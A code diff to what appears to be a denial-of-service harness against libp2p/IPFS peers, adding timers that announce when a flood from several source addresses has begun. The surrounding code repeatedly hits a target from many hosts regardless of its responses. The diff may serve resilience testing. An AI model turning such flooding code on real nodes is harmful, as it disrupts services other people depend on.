@@ -53,7 +53,8 @@ IDENTIFY_LINE = encode_line("/ipfs/id/1.0.0")
 CONNECT_TIMEOUT_S = 5.0
 NOISE_HELLO = VERSION_LINE + encode_line("/noise")
 
-FIRST_WAVE_S = 1.0
+FLOOD_BEGUN_S = 1.0
+WAVE_MAX_S = 10.0
 
 Target = tuple[str, int]
 _announced: list[bool] = []
@@ -180,11 +181,16 @@ def announce(**facts: object) -> None:
         print(json.dumps({"attacking": True, **facts}), flush=True)
 
 
-def again_and_again(target: Target, once: Callable[[Target, str], None], hosts: int = 8) -> None:
-    """Do `once` from one host after the other, whatever the victim says to it."""
-    wave = threading.Timer(FIRST_WAVE_S, announce)
+def announce_after(seconds: float) -> None:
+    """The same, at the latest by then: the victim may slow an attack down."""
+    wave = threading.Timer(seconds, announce)
     wave.daemon = True
     wave.start()
+
+
+def again_and_again(target: Target, once: Callable[[Target, str], None], hosts: int = 8) -> None:
+    """Do `once` from one host after the other, whatever the victim says to it."""
+    announce_after(FLOOD_BEGUN_S)
     for source in source_addresses(hosts):
         with suppress(OSError, GoneError):
             once(target, source)
@@ -632,6 +638,7 @@ def main() -> None:
     os.nice(19)
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    announce_after(WAVE_MAX_S)
     attack((address.host, address.port))
 
 
